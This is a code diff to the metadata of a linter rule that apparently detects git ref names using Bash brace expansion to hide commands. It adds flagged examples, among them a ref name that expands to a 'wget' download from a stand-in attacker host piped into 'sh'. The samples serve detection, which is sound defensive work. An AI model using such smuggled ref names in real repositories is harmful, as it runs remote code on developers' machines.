@@ -10,6 +10,10 @@ export const meta: RuleMeta = {
   description: 'Bash brace expansion turns {curl,-sSfL,host} into the words "curl -sSfL host" without a single space, which git would reject. Critical when the first word is a command.',
   remediation: 'delete the ref; never expand ref names in a shell',
   example: {bad: 'x{curl,-sSfL,evil.example/p}', good: 'feature/support-a-and-b'},
+  examples: {
+    flagged: ['x{curl,-sSfL,evil.example/p}', 'main;{wget,-qO-,evil.example/x}|sh'],
+    clean: ['feature/support-a-and-b', 'fix/brace-matching'],
+  },
 }
 
 export const rule: NameRule = {
